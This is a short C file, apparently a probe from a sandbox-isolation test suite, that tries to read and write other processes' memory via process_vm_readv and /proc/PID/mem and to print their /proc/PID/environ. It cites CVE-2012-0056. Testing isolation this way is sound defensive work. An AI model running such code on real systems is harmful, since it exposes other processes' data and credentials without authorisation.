/* Reads and changes the memory of other processes (process_vm_readv(2), /proc/PID/mem; CVE-2012-0056). */
#include "common/attack.h"

static void attempt(void) {
    static char bytes[65536];
    for (int pid = 1; pid < PIDS; pid++) {
        char path[64];
        if (pid == getpid()) {
            continue;
        }
        struct iovec local = {bytes, sizeof bytes};
        for (uintptr_t at = 0x400000; at < 0x800000; at += sizeof bytes) {
            struct iovec remote = {(void *)at, sizeof bytes};
            if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) {
                printf("reads %d at %lx: %.32s\n", pid, at, bytes);
            } else if (errno == ESRCH) {
                break;
            }
        }
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int memory = open(path, O_RDWR);
        if (memory >= 0) {
            printf("%s is open\n", path);
            close(memory);
        }
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        if (access(path, R_OK) == 0) {
            show(path);
        }
    }
}
